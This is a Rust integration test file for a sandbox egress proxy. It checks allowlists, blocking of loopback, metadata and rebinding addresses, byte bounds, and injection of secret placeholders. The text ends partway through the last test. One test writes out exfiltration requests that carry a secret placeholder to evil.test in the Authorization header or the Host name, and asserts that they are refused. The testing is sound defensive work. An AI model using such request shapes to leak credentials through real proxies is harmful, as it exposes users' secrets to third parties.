//! The proxy against real servers, in network namespaces this test makes (never any
//! outside address): the proxy's (the test thread's own, standing for the host, which
//! has 203.0.113.1 on a veth) and a far one behind that veth, where [`PUBLIC`]
//! (203.0.113.7) serves. `allowed.test` resolves to [`PUBLIC`]; `rebind.test` to
//! 127.0.0.1, `metadata.test` to 169.254.169.254, `self.test` to the host's own
//! 203.0.113.1. Needs root (skipped otherwise, a failure under SKILLBOX_REQUIRE_ALL=1).

#![allow(clippy::unwrap_used, clippy::expect_used, reason = "tests fail loudly")]

use std::future::Future;
use std::io;
use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;

use skillbox_egress::testkit::{self, HOST, PUBLIC, listen};
use skillbox_egress::{NetworkPolicy, Proxy, ProxyLimits, Rules, StaticResolver, Verdict};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};

/// Held by each test: one counts this process's fds, which the others' namespaces,
/// `ip` children and sockets would change under it.
static ONE_AT_A_TIME: std::sync::Mutex<()> = std::sync::Mutex::new(());

fn one_at_a_time() -> std::sync::MutexGuard<'static, ()> {
    ONE_AT_A_TIME.lock().unwrap_or_else(|e| e.into_inner())
}

/// Runs `body` in the test's network namespaces (`skillbox_egress::testkit`), one test
/// at a time; `None` when this process may not make them.
fn in_netns<F, Fut>(test: &str, body: F) -> Option<()>
where
    F: FnOnce() -> Fut + Send + 'static,
    Fut: Future<Output = ()>,
{
    if let Some(why) = testkit::cannot_run() {
        assert!(
            std::env::var("SKILLBOX_REQUIRE_ALL").as_deref() != Ok("1"),
            "{test}: cannot run here and SKILLBOX_REQUIRE_ALL=1: {why}"
        );
        eprintln!("SKIP {test}: {why}");
        return None;
    }
    let _alone = one_at_a_time();
    testkit::in_netns(body);
    Some(())
}

/// A server that answers every connection with what it was sent first (up to the end
/// of a request head, or 5 bytes), prefixed.
async fn echo_server(ip: &str) -> SocketAddr {
    let listener = listen(ip);
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move {
        loop {
            let (mut stream, _) = listener.accept().await.unwrap();
            tokio::spawn(async move {
                let mut got = Vec::new();
                let mut buf = [0u8; 4096];
                loop {
                    let n = stream.read(&mut buf).await.unwrap_or(0);
                    if n == 0 {
                        break;
                    }
                    got.extend_from_slice(&buf[..n]);
                    if got.windows(4).any(|w| w == b"\r\n\r\n") || got.starts_with(b"hello") {
                        break;
                    }
                }
                let mut answer = b"server saw: ".to_vec();
                answer.extend_from_slice(&got);
                let _ = stream.write_all(&answer).await;
                let _ = stream.shutdown().await;
            });
        }
    });
    addr
}

async fn start(allow: &[&str], limits: ProxyLimits) -> (Proxy, SocketAddr) {
    let rules = Rules::new(&NetworkPolicy {
        allow: allow.iter().map(|s| s.to_string()).collect(),
        deny: vec!["denied.allowed.test".into()],
    })
    .unwrap();
    let names = StaticResolver::of(&[
        ("allowed.test", PUBLIC),
        ("denied.allowed.test", PUBLIC),
        ("other.test", PUBLIC),
        ("rebind.test", "127.0.0.1"),
        ("metadata.test", "169.254.169.254"),
        ("self.test", HOST),
    ])
    .unwrap();
    let proxy = Proxy::new(rules, Arc::new(names), limits);
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let serving = proxy.clone();
    tokio::spawn(async move { serving.serve(listener).await });
    (proxy, addr)
}

/// Sends `request` to the proxy and reads all it answers.
async fn ask(proxy: SocketAddr, request: &[u8]) -> String {
    let mut stream = TcpStream::connect(proxy).await.unwrap();
    stream.write_all(request).await.unwrap();
    let mut answer = Vec::new();
    tokio::time::timeout(Duration::from_secs(10), stream.read_to_end(&mut answer))
        .await
        .unwrap_or_else(|_| {
            panic!(
                "no answer in time to {:?}; so far {:?}",
                String::from_utf8_lossy(request),
                String::from_utf8_lossy(&answer)
            )
        })
        .unwrap();
    String::from_utf8_lossy(&answer).into_owned()
}

#[test]
fn allowed_names_are_reached_and_everything_else_refused() {
    in_netns(
        "allowed_names_are_reached_and_everything_else_refused",
        || async {
            let server = echo_server(PUBLIC).await;
            let local = echo_server("127.0.0.1").await;
            // A host service on every address: its public one is the host's own too.
            let everywhere = echo_server("0.0.0.0").await.port();
            let port = server.port();
            let (proxy, addr) = start(
                &[
                    &format!("allowed.test:{port}"),
                    &format!("*.allowed.test:{port}"),
                    &format!("rebind.test:{}", local.port()),
                    &format!("metadata.test:{port}"),
                    &format!("127.0.0.1:{}", local.port()),
                    &format!("self.test:{everywhere}"),
                    &format!("{HOST}:{everywhere}"),
                ],
                ProxyLimits::default(),
            )
            .await;

            // CONNECT to an allowed name: a tunnel to the server it resolves to.
            let answer = ask(
                addr,
                format!("CONNECT allowed.test:{port} HTTP/1.1\r\nHost: allowed.test\r\n\r\nhello")
                    .as_bytes(),
            )
            .await;
            assert_eq!(
                answer,
                "HTTP/1.1 200 Connection established\r\n\r\nserver saw: hello"
            );

            // An absolute-form request: forwarded in origin-form, without the proxy's
            // headers, and with the URL's Host, not one naming another site (behind a
            // CDN, the allowed address would serve it).
            let answer = ask(
            addr,
            format!("GET http://allowed.test:{port}/pkg?v=1 HTTP/1.1\r\nHost: other.test\r\nProxy-Authorization: Basic eA==\r\n\r\n").as_bytes(),
        )
        .await;
            assert_eq!(
                answer,
                format!(
                    "server saw: GET /pkg?v=1 HTTP/1.1\r\nHost: allowed.test:{port}\r\nConnection: close\r\n\r\n"
                )
            );

            // Not on the list, denied, another port: refused with a reason, nothing reached.
            for (request, said) in [
                (
                    format!("CONNECT other.test:{port} HTTP/1.1\r\n\r\n"),
                    "other.test:".to_string()
                        + &port.to_string()
                        + " is not on the run's network.allow",
                ),
                (
                    format!("CONNECT denied.allowed.test:{port} HTTP/1.1\r\n\r\n"),
                    "network.deny".to_string(),
                ),
                (
                    format!("CONNECT allowed.test:{} HTTP/1.1\r\n\r\n", port + 1),
                    "is not on the run's network.allow".to_string(),
                ),
                // Allowed names that resolve to loopback or metadata, and a loopback literal.
                (
                    format!("CONNECT rebind.test:{} HTTP/1.1\r\n\r\n", local.port()),
                    "resolves to 127.0.0.1, a loopback address".to_string(),
                ),
                (
                    format!("CONNECT metadata.test:{port} HTTP/1.1\r\n\r\n"),
                    "169.254.169.254, a link-local address".to_string(),
                ),
                (
                    format!("CONNECT 127.0.0.1:{} HTTP/1.1\r\n\r\n", local.port()),
                    "a loopback address".to_string(),
                ),
                // The host's own (public-looking) address, by name and as a literal.
                (
                    format!("CONNECT self.test:{everywhere} HTTP/1.1\r\n\r\n"),
                    format!("resolves to {HOST}, one of this host's own addresses"),
                ),
                (
                    format!("CONNECT {HOST}:{everywhere} HTTP/1.1\r\n\r\n"),
                    "one of this host's own addresses".to_string(),
                ),
            ] {
                let answer = ask(addr, request.as_bytes()).await;
                assert!(
                    answer.starts_with("HTTP/1.1 403 Forbidden\r\n"),
                    "{request}: {answer}"
                );
                assert!(answer.contains("X-Skillbox-Egress: refused"), "{answer}");
                assert!(answer.contains(&said), "{request}: {answer}");
                assert!(!answer.contains("server saw"), "{answer}");
            }
            // Garbage is a 400 that says why.
            let answer = ask(addr, b"GET /local HTTP/1.1\r\n\r\n").await;
            assert!(answer.starts_with("HTTP/1.1 400 Bad Request"), "{answer}");

            proxy.stop().await;
            let connections = proxy.audit().connections();
            let allowed: Vec<_> = connections
                .iter()
                .filter(|c| c.verdict == Verdict::Allowed)
                .collect();
            let refused: Vec<_> = connections
                .iter()
                .filter(|c| c.verdict == Verdict::Refused)
                .collect();
            assert_eq!((allowed.len(), refused.len()), (2, 8), "{connections:#?}");
            assert!(
                allowed.iter().all(|c| c.host == "allowed.test"
                    && c.address.as_deref() == Some(&*server.to_string()))
            );
            assert!(
                allowed[0].bytes_out >= 5 && allowed[0].bytes_in >= 17,
                "{:?}",
                allowed[0]
            );
            assert!(
                refused
                    .iter()
                    .all(|c| c.reason.is_some() && c.bytes_in == 0)
            );
        },
    );
}

/// A SOCKS5 `CONNECT` (RFC 1928, no authentication): the address as the client sent
/// it (name, IPv4, IPv6) in the reply's code, then the tunnel; held to the same rules
/// as an HTTP one.
async fn socks(proxy: SocketAddr, address: &[u8], port: u16) -> (u8, String) {
    let mut stream = TcpStream::connect(proxy).await.unwrap();
    stream.write_all(&[5, 1, 0]).await.unwrap();
    let mut chosen = [0u8; 2];
    stream.read_exact(&mut chosen).await.unwrap();
    assert_eq!(chosen, [5, 0]);
    let mut request = vec![5, 1, 0];
    request.extend_from_slice(address);
    request.extend_from_slice(&port.to_be_bytes());
    stream.write_all(&request).await.unwrap();
    let mut reply = [0u8; 10];
    stream.read_exact(&mut reply).await.unwrap();
    assert_eq!((reply[0], reply[3]), (5, 1), "{reply:?}");
    if reply[1] == 0 {
        stream.write_all(b"hello").await.unwrap();
    }
    // To its end, or until it is cut (a reset when the proxy closes with bytes unread).
    let mut rest = Vec::new();
    let mut chunk = [0u8; 16 * 1024];
    let reading = async {
        while let Ok(n) = stream.read(&mut chunk).await {
            if n == 0 {
                break;
            }
            rest.extend_from_slice(&chunk[..n]);
        }
    };
    tokio::time::timeout(Duration::from_secs(10), reading)
        .await
        .unwrap();
    (reply[1], String::from_utf8_lossy(&rest).into_owned())
}

fn socks_name(name: &str) -> Vec<u8> {
    let mut address = vec![3, name.len() as u8];
    address.extend_from_slice(name.as_bytes());
    address
}

#[test]
fn socks5_is_held_to_the_same_rules() {
    in_netns("socks5_is_held_to_the_same_rules", || async {
        let server = echo_server(PUBLIC).await;
        let local = echo_server("127.0.0.1").await;
        let port = server.port();
        let (proxy, addr) = start(
            &[
                &format!("allowed.test:{port}"),
                // Covers denied.allowed.test, which the deny list refuses.
                &format!("*.allowed.test:{port}"),
                &format!("rebind.test:{}", local.port()),
                &format!("127.0.0.1:{}", local.port()),
                // Allowed by the rules, refused by the address check.
                &format!("[::1]:{}", local.port()),
            ],
            ProxyLimits::default(),
        )
        .await;
        let public: std::net::Ipv4Addr = PUBLIC.parse().unwrap();
        let mut v4 = vec![1];
        v4.extend_from_slice(&public.octets());
        let mut loopback = vec![1];
        loopback.extend_from_slice(&[127, 0, 0, 1]);
        let mut v6 = vec![4];
        v6.extend_from_slice(&std::net::Ipv6Addr::LOCALHOST.octets());

        // An allowed name: the tunnel reaches the server.
        assert_eq!(
            socks(addr, &socks_name("allowed.test"), port).await,
            (0, "server saw: hello".to_string())
        );
        // Not on the list (by name or address), denied, resolving to loopback, a
        // loopback literal (v4 and v6): "not allowed by the ruleset", nothing reached.
        for (address, to) in [
            (socks_name("other.test"), port),
            (socks_name("denied.allowed.test"), port),
            (v4, port),
            (socks_name("rebind.test"), local.port()),
            (loopback, local.port()),
            (v6, local.port()),
        ] {
            assert_eq!(
                socks(addr, &address, to).await,
                (2, String::new()),
                "{address:?}"
            );
        }
        // A command other than CONNECT is refused as such.
        let mut stream = TcpStream::connect(addr).await.unwrap();
        stream.write_all(&[5, 1, 0]).await.unwrap();
        let mut chosen = [0u8; 2];
        stream.read_exact(&mut chosen).await.unwrap();
        let mut bind = vec![5, 2, 0];
        bind.extend_from_slice(&socks_name("allowed.test"));
        bind.extend_from_slice(&port.to_be_bytes());
        stream.write_all(&bind).await.unwrap();
        let mut reply = [0u8; 10];
        stream.read_exact(&mut reply).await.unwrap();
        assert_eq!(reply[1], 7);

        proxy.stop().await;
        let connections = proxy.audit().connections();
        let verdicts: Vec<_> = connections.iter().map(|c| c.verdict).collect();
        assert_eq!(verdicts.len(), 7, "{connections:#?}");
        assert_eq!(verdicts[0], Verdict::Allowed);
        assert!(verdicts[1..].iter().all(|v| *v == Verdict::Refused));
        assert_eq!(
            connections[0].address.as_deref(),
            Some(&*server.to_string())
        );
        let reason = |i: usize| connections[i].reason.clone().unwrap_or_default();
        assert!(reason(2).contains("network.deny"), "{}", reason(2));
        assert!(reason(4).contains("loopback"), "{}", reason(4));
        assert!(reason(6).contains("loopback"), "{}", reason(6));
    });
}

#[test]
fn the_egress_byte_bound_cuts_the_connection() {
    in_netns("the_egress_byte_bound_cuts_the_connection", || async {
        // A server that sends 1 MiB.
        let listener = listen(PUBLIC);
        let port = listener.local_addr().unwrap().port();
        tokio::spawn(async move {
            loop {
                let (mut stream, _) = listener.accept().await.unwrap();
                tokio::spawn(async move {
                    let _ = stream.write_all(&vec![b'x'; 1 << 20]).await;
                });
            }
        });
        let (proxy, addr) = start(
            &[&format!("allowed.test:{port}")],
            ProxyLimits {
                egress_bytes: Some(64 * 1024),
                ..ProxyLimits::default()
            },
        )
        .await;
        let answer = ask(
            addr,
            format!("CONNECT allowed.test:{port} HTTP/1.1\r\n\r\n").as_bytes(),
        )
        .await;
        let body = answer.len() - "HTTP/1.1 200 Connection established\r\n\r\n".len();
        assert!(
            body <= 64 * 1024,
            "{body} bytes came through a 64 KiB bound"
        );
        proxy.stop().await;
        let connections = proxy.audit().connections();
        assert_eq!(connections.len(), 1);
        let reason = connections[0].reason.as_deref().unwrap_or_default();
        assert!(
            reason.contains("limits.egressBytes (65536 bytes) reached"),
            "{reason}"
        );

        // Through the SOCKS5 door, the same bound.
        let (proxy, addr) = start(
            &[&format!("allowed.test:{port}")],
            ProxyLimits {
                egress_bytes: Some(64 * 1024),
                ..ProxyLimits::default()
            },
        )
        .await;
        let (code, body) = socks(addr, &socks_name("allowed.test"), port).await;
        assert_eq!(code, 0);
        assert!(
            body.len() <= 64 * 1024,
            "{} bytes came through a 64 KiB bound",
            body.len()
        );
        proxy.stop().await;
        let connections = proxy.audit().connections();
        let reason = connections[0].reason.as_deref().unwrap_or_default();
        assert!(
            reason.contains("limits.egressBytes (65536 bytes) reached"),
            "{reason}"
        );
    });
}

/// The file descriptors this process has open.
fn open_fds() -> usize {
    std::fs::read_dir("/proc/self/fd").unwrap().count()
}

/// Sandbox code opening connection after connection to the proxy and sending nothing
/// holds no more than `max_connections` of skillbox's own fds: the rest wait in the
/// kernel's listen backlog, not as fds and tasks of the process every sandbox shares.
#[test]
fn idle_connections_past_the_bound_cost_skillbox_no_fds() {
    let _alone = one_at_a_time();
    tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap()
        .block_on(idle_connections());
}

async fn idle_connections() {
    let (proxy, addr) = start(
        &["allowed.test"],
        ProxyLimits {
            max_connections: 2,
            head_timeout: Duration::from_secs(60),
            ..ProxyLimits::default()
        },
    )
    .await;
    let before = open_fds();
    let mut clients = Vec::new();
    for _ in 0..100 {
        clients.push(TcpStream::connect(addr).await.unwrap());
    }
    // The two the proxy serves are accepted (each an fd of ours as well as the client's).
    let deadline = std::time::Instant::now() + Duration::from_secs(10);
    while open_fds() < before + 100 + 2 {
        assert!(
            std::time::Instant::now() < deadline,
            "the proxy accepted nothing"
        );
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    // No more, however long the accept loop is given.
    let deadline = std::time::Instant::now() + Duration::from_secs(1);
    while std::time::Instant::now() < deadline {
        let held = open_fds() - before - 100;
        assert!(
            held <= 2 + 2,
            "the proxy holds {held} fds for 100 idle connections with max_connections 2"
        );
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    drop(clients);
    proxy.stop().await;
}

/// Sandbox code cannot carry data past `limits.egressBytes` in request heads (and the
/// bytes sent right behind them), one connection after another: the heads count, and
/// past the bound no connection is made.
#[test]
fn request_heads_count_against_the_egress_byte_bound() {
    in_netns(
        "request_heads_count_against_the_egress_byte_bound",
        || async {
            // A server that counts every byte it is sent, over all connections.
            let listener = listen(PUBLIC);
            let port = listener.local_addr().unwrap().port();
            let received = Arc::new(std::sync::atomic::AtomicUsize::new(0));
            let counted = received.clone();
            tokio::spawn(async move {
                loop {
                    let (mut stream, _) = listener.accept().await.unwrap();
                    let counted = counted.clone();
                    tokio::spawn(async move {
                        let mut buf = [0u8; 4096];
                        while let Ok(n @ 1..) = stream.read(&mut buf).await {
                            counted.fetch_add(n, std::sync::atomic::Ordering::SeqCst);
                            if buf[..n].ends_with(b"\r\n\r\n") || buf[..n].ends_with(b"tail") {
                                break;
                            }
                        }
                    });
                }
            });
            let bound = 4096;
            let (proxy, addr) = start(
                &[&format!("allowed.test:{port}")],
                ProxyLimits {
                    egress_bytes: Some(bound),
                    ..ProxyLimits::default()
                },
            )
            .await;
            let secret = "s".repeat(3000);
            for _ in 0..10 {
                ask(
                    addr,
                    format!("GET http://allowed.test:{port}/ HTTP/1.1\r\nX-Data: {secret}\r\n\r\n")
                        .as_bytes(),
                )
                .await;
                ask(
                    addr,
                    format!(
                        "CONNECT allowed.test:{port} HTTP/1.1\r\n\r\n{}tail",
                        &secret[..1500]
                    )
                    .as_bytes(),
                )
                .await;
            }
            proxy.stop().await;
            let received = received.load(std::sync::atomic::Ordering::SeqCst);
            assert!(
                received as u64 <= bound,
                "{received} bytes reached the server through a {bound} byte bound"
            );
            let connections = proxy.audit().connections();
            assert!(
                connections
                    .iter()
                    .filter(|c| c.verdict == Verdict::Refused)
                    .all(|c| c
                        .reason
                        .as_deref()
                        .unwrap_or_default()
                        .contains("limits.egressBytes")),
                "{connections:#?}"
            );
        },
    );
}

/// A tunnel with no byte either way for `idle_timeout` is closed (and says so in the
/// audit); one that keeps carrying bytes stays open past it.
#[test]
fn an_idle_tunnel_is_closed() {
    in_netns("an_idle_tunnel_is_closed", || async {
        // A server that reads and never answers, nor closes.
        let listener = listen(PUBLIC);
        let port = listener.local_addr().unwrap().port();
        let (got, mut received) = tokio::sync::mpsc::unbounded_channel();
        tokio::spawn(async move {
            let (mut stream, _) = listener.accept().await.unwrap();
            let mut buf = [0u8; 64];
            loop {
                match stream.read(&mut buf).await {
                    Ok(0) | Err(_) => break,
                    Ok(n) => got.send(n).unwrap(),
                }
            }
            // Held open until the test ends: only the proxy closes the tunnel.
            std::future::pending::<()>().await;
        });
        let idle = Duration::from_millis(400);
        let (proxy, addr) = start(
            &[&format!("allowed.test:{port}")],
            ProxyLimits {
                idle_timeout: idle,
                ..ProxyLimits::default()
            },
        )
        .await;
        let mut client = TcpStream::connect(addr).await.unwrap();
        client
            .write_all(format!("CONNECT allowed.test:{port} HTTP/1.1\r\n\r\n").as_bytes())
            .await
            .unwrap();
        let mut head = Vec::new();
        while !head.ends_with(b"\r\n\r\n") {
            let mut byte = [0u8; 1];
            client.read_exact(&mut byte).await.unwrap();
            head.push(byte[0]);
        }
        assert!(head.starts_with(b"HTTP/1.1 200"), "{head:?}");
        // A byte every 100 ms, for three times the idle timeout: the tunnel carries
        // them all.
        let opened = std::time::Instant::now();
        let mut sent = 0;
        let mut last_sent = opened;
        while opened.elapsed() < idle * 3 {
            // Taken before the write: the proxy may read the byte (and restart its idle
            // clock) before the write call returns here.
            last_sent = std::time::Instant::now();
            client.write_all(b"x").await.unwrap();
            sent += 1;
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
        let mut through = 0;
        while through < sent {
            through += tokio::time::timeout(Duration::from_secs(10), received.recv())
                .await
                .expect("the tunnel stopped carrying bytes while they flowed")
                .unwrap();
        }
        // Then silence: the proxy closes it, about the idle timeout later.
        let mut rest = Vec::new();
        tokio::time::timeout(Duration::from_secs(10), client.read_to_end(&mut rest))
            .await
            .expect("an idle tunnel was never closed")
            .unwrap();
        let quiet = last_sent.elapsed();
        assert!(quiet >= idle, "closed after {quiet:?} of quiet");
        proxy.stop().await;
        let connections = proxy.audit().connections();
        assert_eq!(connections.len(), 1, "{connections:#?}");
        assert_eq!(connections[0].verdict, Verdict::Allowed);
        assert_eq!(connections[0].bytes_out, sent as u64, "{connections:#?}");
        let reason = connections[0].reason.as_deref().unwrap_or_default();
        assert!(reason.contains("idle timeout"), "{reason}");
    });
}

/// Everything a subscriber is given, as text.
#[derive(Clone, Default)]
struct Captured(Arc<std::sync::Mutex<Vec<u8>>>);

impl io::Write for Captured {
    fn write(&mut self, bytes: &[u8]) -> io::Result<usize> {
        self.0.lock().unwrap().extend_from_slice(bytes);
        Ok(bytes.len())
    }
    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}

/// A sandbox asking for refused names again and again does not grow skillbox's log
/// without bound: the first connections are logged, then one line says the rest are
/// not; the audit still counts them all.
#[test]
fn refusals_past_the_first_are_counted_not_logged() {
    let _alone = one_at_a_time();
    let log = Captured::default();
    let writer = log.clone();
    let subscriber = tracing_subscriber::fmt()
        .with_max_level(tracing::Level::INFO)
        .with_writer(move || writer.clone())
        .finish();
    let asked = 250;
    tracing::subscriber::with_default(subscriber, || {
        tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()
            .unwrap()
            .block_on(async {
                let (proxy, addr) = start(&["allowed.test"], ProxyLimits::default()).await;
                for i in 0..asked {
                    let answer = ask(
                        addr,
                        format!("CONNECT refused-{i}.test:443 HTTP/1.1\r\n\r\n").as_bytes(),
                    )
                    .await;
                    assert!(answer.starts_with("HTTP/1.1 403"), "{answer}");
                }
                proxy.stop().await;
                let connections = proxy.audit().connections();
                assert_eq!(connections.len(), asked, "every refusal is in the audit");
            });
    });
    let text = String::from_utf8(log.0.lock().unwrap().clone()).unwrap();
    let refused = text
        .lines()
        .filter(|l| l.contains("egress: refused"))
        .count();
    assert_eq!(refused, 100, "{text}");
    assert_eq!(
        text.lines()
            .filter(|l| l.contains("the rest are not logged one by one"))
            .count(),
        1,
        "{text}"
    );
}

const SECRET: &str = "real-key-5be0c2d94a";

/// A proxy adding `API_KEY` (value [`SECRET`]) for `api.test` on each of `ports`, its
/// upstream TLS also trusting `roots`: (the proxy, its address, the placeholder, the
/// sandbox's CA as PEM).
async fn secret_proxy(
    ports: &[u16],
    roots: &[rustls::pki_types::CertificateDer<'static>],
) -> (Proxy, SocketAddr, String, String) {
    let hosts: Vec<String> = ports.iter().map(|p| format!("api.test:{p}")).collect();
    let egress = skillbox_egress::sandbox_egress(
        Some(&NetworkPolicy {
            allow: hosts.clone(),
            deny: vec![],
        }),
        None,
        &std::collections::BTreeMap::from([(
            "API_KEY".to_string(),
            skillbox_egress::SecretSpec {
                value: SECRET.into(),
                hosts,
            },
        )]),
        Arc::new(StaticResolver::of(&[("api.test", PUBLIC)]).unwrap()),
        roots,
        "/skillbox-egress",
    )
    .unwrap()
    .unwrap();
    let placeholder = egress
        .env
        .iter()
        .find_map(|(name, value)| (name == "API_KEY").then(|| value.clone()))
        .unwrap();
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let serving = egress.proxy.clone();
    tokio::spawn(async move { serving.serve(listener).await });
    (egress.proxy, addr, placeholder, egress.ca_pem.unwrap())
}

/// What a sandbox's client does: `CONNECT api.test:port`, TLS trusting only the
/// sandbox's CA, one request with the placeholder in `Authorization`; all it is
/// answered inside the TLS.
async fn fetch_with_placeholder(proxy: SocketAddr, port: u16, ca_pem: &str, key: &str) -> String {
    let request =
        format!("GET / HTTP/1.1\r\nHost: api.test:{port}\r\nAuthorization: Bearer {key}\r\n\r\n");
    send_in_tunnel(proxy, port, ca_pem, &request).await
}

/// `CONNECT api.test:port`, TLS trusting only the sandbox's CA, then `request`; all it
/// is answered inside the TLS.
async fn send_in_tunnel(proxy: SocketAddr, port: u16, ca_pem: &str, request: &str) -> String {
    use rustls::pki_types::pem::PemObject;
    let mut stream = TcpStream::connect(proxy).await.unwrap();
    stream
        .write_all(format!("CONNECT api.test:{port} HTTP/1.1\r\n\r\n").as_bytes())
        .await
        .unwrap();
    let mut head = Vec::new();
    while !head.ends_with(b"\r\n\r\n") {
        let mut byte = [0u8; 1];
        stream.read_exact(&mut byte).await.unwrap();
        head.push(byte[0]);
    }
    assert!(
        head.starts_with(b"HTTP/1.1 200"),
        "{}",
        String::from_utf8_lossy(&head)
    );
    let mut roots = rustls::RootCertStore::empty();
    roots
        .add(rustls::pki_types::CertificateDer::from_pem_slice(ca_pem.as_bytes()).unwrap())
        .unwrap();
    let config = rustls::ClientConfig::builder_with_provider(Arc::new(
        rustls::crypto::ring::default_provider(),
    ))
    .with_safe_default_protocol_versions()
    .unwrap()
    .with_root_certificates(roots)
    .with_no_client_auth();
    let name = rustls::pki_types::ServerName::try_from("api.test").unwrap();
    let mut tls = tokio_rustls::TlsConnector::from(Arc::new(config))
        .connect(name, stream)
        .await
        .expect("the sandbox's TLS with the proxy, as api.test");
    tls.write_all(request.as_bytes()).await.unwrap();
    let mut answer = Vec::new();
    tokio::time::timeout(Duration::from_secs(10), tls.read_to_end(&mut answer))
        .await
        .expect("no answer in time")
        .unwrap();
    String::from_utf8_lossy(&answer).into_owned()
}

/// The attack: `CONNECT api.test` (a secret's host), then inside the TLS a request for
/// another site, by an absolute URL or by its `Host` (a CDN or gateway at api.test's
/// address would route it there), with the placeholder in `Authorization` or in the
/// `Host` itself. Each is answered `421` with the reason, recorded as refused, and
/// api.test's server gets no request at all; the same tunnel with api.test's own
/// `Host` and a path still gets the value.
#[test]
fn a_request_in_a_secret_s_tunnel_for_another_host_is_refused() {
    in_netns(
        "a_request_in_a_secret_s_tunnel_for_another_host_is_refused",
        || async {
            let (ca, _, config) = testkit::test_tls(&["api.test"]);
            let seen = testkit::Seen::default();
            let port = testkit::https_server(config, seen.clone()).await;
            let (proxy, addr, key, ca_pem) = secret_proxy(&[port], &[ca]).await;
            let attacks = [
                format!(
                    "GET https://evil.test/C HTTP/1.1\r\nHost: evil.test\r\nAuthorization: Bearer {key}\r\n\r\n"
                ),
                format!("GET /C HTTP/1.1\r\nHost: {key}.evil.test\r\n\r\n"),
                format!(
                    "GET /C HTTP/1.1\r\nHost: evil.test\r\nAuthorization: Bearer {key}\r\n\r\n"
                ),
                format!(
                    "GET /C HTTP/1.1\r\nHost: api.test:{port}\r\nHost: evil.test\r\nAuthorization: Bearer {key}\r\n\r\n"
                ),
            ];
            for attack in &attacks {
                let answer = send_in_tunnel(addr, port, &ca_pem, attack).await;
                assert!(
                    answer.starts_with("HTTP/1.1 421 Misdirected Request\r\n"),
                    "{attack:?}: {answer}"
                );
                assert!(
                    answer.contains("\r\nX-Skillbox-Egress: refused\r\n")
                        && answer.contains(&format!("has Host: api.test:{port}")),
                    "{answer}"
                );
                assert!(!answer.contains(SECRET), "{answer}");
            }
            assert!(
                seen.lock().unwrap().is_empty(),
                "api.test's server got {:?}",
                seen.lock().unwrap()
            );
            let answer = fetch_with_placeholder(addr, port, &ca_pem, &key).await;
            assert!(
                answer.starts_with("HTTP/1.1 200") && answer.ends_with("ok"),
                "{answer}"
            );
            proxy.stop().await;
            let connections = proxy.audit().connections();
            assert_eq!(connections.len(), attacks.len() + 1, "{connections:#?}");
            for refused in &connections[..attacks.len()] {
                assert_eq!(
                    (refused.verdict, refused.bytes_out),
                    (Verdict::Refused, 0),
                    "{connections:#?}"
                );
                let reason = refused.reason.as_deref().unwrap_or_default();
                assert!(
                    reason.contains(&format!("has Host: api.test:{port}")),
                    "{reason}"
                );
                assert!(!reason.contains(SECRET), "{reason}");
            }
            assert_eq!(connections[attacks.len()].verdict, Verdict::Allowed);
            assert_eq!(
                *seen.lock().unwrap(),
                vec![("api.test".to_string(), format!("Bearer {SECRET}"))]
            );
        },
    );
}

/// A secret's host whose certificate nothing the proxy trusts vouches for: the
/// sandbox's request (its TLS with the proxy done) is answered `502` with
/// `X-Skillbox-Egress: upstream-tls-failed` and the reason, the connection's record
/// says refused, and the host gets no request. A secret's host that does not answer
/// is refused at the `CONNECT`, as any host is. With the host's CA among the upstream
/// roots the same request reaches it with the value (the server would have seen one).
#[test]
fn a_secret_host_failing_verification_is_answered_502_and_sent_nothing() {
    in_netns(
        "a_secret_host_failing_verification_is_answered_502_and_sent_nothing",
        || async {
            let (ca, _, config) = testkit::test_tls(&["api.test"]);
            let seen = testkit::Seen::default();
            let port = testkit::https_server(config, seen.clone()).await;
            let closed = listen(PUBLIC).local_addr().unwrap().port();

            let (proxy, addr, key, ca_pem) = secret_proxy(&[port, closed], &[]).await;
            let answer = fetch_with_placeholder(addr, port, &ca_pem, &key).await;
            assert!(
                answer.starts_with("HTTP/1.1 502 Bad Gateway\r\n"),
                "{answer}"
            );
            assert!(
                answer.contains("\r\nX-Skillbox-Egress: upstream-tls-failed\r\n"),
                "{answer}"
            );
            let body = answer.split("\r\n\r\n").nth(1).unwrap_or_default();
            assert!(
                body.starts_with("skillbox egress: TLS with api.test: ")
                    && body.contains("UnknownIssuer")
                    && body.contains("not sent"),
                "{answer}"
            );
            assert!(!answer.contains(SECRET), "{answer}");
            // A host that does not answer: refused at the CONNECT, no TLS begun.
            let refused = ask(
                addr,
                format!("CONNECT api.test:{closed} HTTP/1.1\r\n\r\n").as_bytes(),
            )
            .await;
            assert!(refused.starts_with("HTTP/1.1 502"), "{refused}");
            assert!(refused.contains("X-Skillbox-Egress: refused"), "{refused}");
            proxy.stop().await;
            let connections = proxy.audit().connections();
            assert_eq!(connections.len(), 2, "{connections:#?}");
            let unverified = &connections[0];
            assert_eq!(
                (unverified.port, unverified.verdict, unverified.bytes_out),
                (port, Verdict::Refused, 0),
                "{connections:#?}"
            );
            let reason = unverified.reason.as_deref().unwrap_or_default();
            assert!(
                reason.starts_with("TLS with api.test: ") && reason.contains("UnknownIssuer"),
                "{reason}"
            );
            assert_eq!(
                (connections[1].port, connections[1].verdict),
                (closed, Verdict::Refused),
                "{connections:#?}"
            );
            assert!(
                connections[1]
                    .reason
                    .as_deref()
                    .unwrap_or_default()
                    .contains("cannot connect"),
                "{connections:#?}"
            );
            assert!(
                seen.lock().unwrap().is_empty(),
                "{:?}",
                seen.lock().unwrap()
            );

            // Trusted, the same request reaches api.test with the value.
            let (proxy, addr, key, ca_pem) = secret_proxy(&[port], &[ca]).await;
            let answer = fetch_with_placeholder(addr, port, &ca_pem, &key).await;
            assert!(
                answer.starts_with("HTTP/1.1 200") && answer.ends_with("ok"),
                "{answer}"
            );
            proxy.stop().await;
            assert_eq!(proxy.audit().connections()[0].verdict, Verdict::Allowed);
